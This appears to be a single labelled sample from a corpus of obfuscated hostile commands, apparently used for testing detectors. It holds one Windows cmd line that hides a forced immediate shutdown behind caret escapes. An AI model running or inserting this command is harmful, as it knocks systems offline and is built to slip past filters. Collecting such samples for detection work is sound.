# description: Hides shutdown /s behind cmd caret escapes.
# family: availability
# obfuscated: yes
cmd.exe /c "sh^ut^do^wn /s /t 0 /f"
